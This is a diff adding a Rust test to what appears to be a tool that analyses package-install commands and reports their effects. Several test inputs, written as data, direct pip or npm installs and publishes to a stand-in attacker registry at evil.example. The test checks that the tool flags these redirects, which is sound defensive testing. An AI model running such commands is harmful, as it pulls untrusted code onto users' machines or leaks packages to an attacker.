@@ -361,3 +361,33 @@ fn what_a_lock_file_has_that_no_commit_has_is_shown() {
     let all = shown(at, "npm ci", packages::look);
     assert!(all.contains("since the last commit: 1 new: evil 6.6.6 (runs scripts)"), "{all}");
 }
+
+/// Options that are cut short, or not known: what they say is shown, or that it is not.
+#[test]
+fn options_of_installs_are_followed_or_told() {
+    let dir = tempfile::tempdir().unwrap();
+    let at = dir.path();
+    for (line, told) in [
+        ("pip install --index-u=https://evil.example x", "https://evil.example"),
+        ("python3 -m pip install --extra-i https://evil.example x", "https://evil.example"),
+        ("npm i --reg=https://evil.example x", "https://evil.example"),
+        ("npm publish --reg=https://evil.example", "https://evil.example"),
+        ("npm i --none-such x", "the option `--none-such` is not understood"),
+        ("cargo install --config=a.toml x", "`--config=a.toml` says where settings are"),
+        ("npm i publish", "\"name\":\"publish\""),
+        ("npm i -w -w -w -w -w -w -w -w -w -w -w -w x", "1 more of its words are not understood"),
+        ("npm publish ./other.tgz", "`./other.tgz` may be another"),
+    ] {
+        fs::write(at.join("package.json"), "{\"name\":\"a\",\"version\":\"1.0.0\"}").unwrap();
+        let text = shown(at, line, packages::look);
+        assert!(text.contains(told), "{line}: {text}");
+        let tools =
+            !line.contains("evil") || !text.contains("no setting says otherwise") && !text.contains("no .npmrc");
+        assert!(tools, "{line}: {text}");
+    }
+    fs::create_dir(at.join("web")).unwrap();
+    fs::write(at.join("web/package-lock.json"), "{\"packages\":{\"node_modules/b\":{\"version\":\"2.0.0\"}}}").unwrap();
+    for line in ["npm ci --prefix web", "npm ci -C web", "npm ci --prefi=web"] {
+        assert!(shown(at, line, packages::look).contains("1 packages of the lock file"), "{line}");
+    }
+}
